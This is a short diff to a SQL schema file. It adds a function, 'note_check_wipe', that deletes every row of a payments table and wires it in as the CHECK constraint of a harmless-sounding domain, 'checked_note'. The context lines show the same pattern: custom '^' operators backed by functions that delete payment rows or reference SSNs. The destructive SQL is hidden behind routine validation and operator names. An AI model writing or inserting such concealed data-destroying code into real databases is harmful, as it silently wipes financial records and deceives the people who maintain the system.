@@ -40,3 +40,7 @@ CREATE OPERATOR ^ (LEFTARG = text, RIGHTARG = int, FUNCTION = caret_ssn)
 CREATE FUNCTION caret_wipe(a int, b text) RETURNS boolean LANGUAGE sql AS $$ DELETE FROM payments WHERE id >= a; SELECT true $$
 ;;
 CREATE OPERATOR ^ (LEFTARG = int, RIGHTARG = text, FUNCTION = caret_wipe)
+;;
+CREATE FUNCTION note_check_wipe(v text) RETURNS boolean LANGUAGE sql AS $$ DELETE FROM payments; SELECT true $$
+;;
+CREATE DOMAIN checked_note AS text CHECK (note_check_wipe(VALUE))
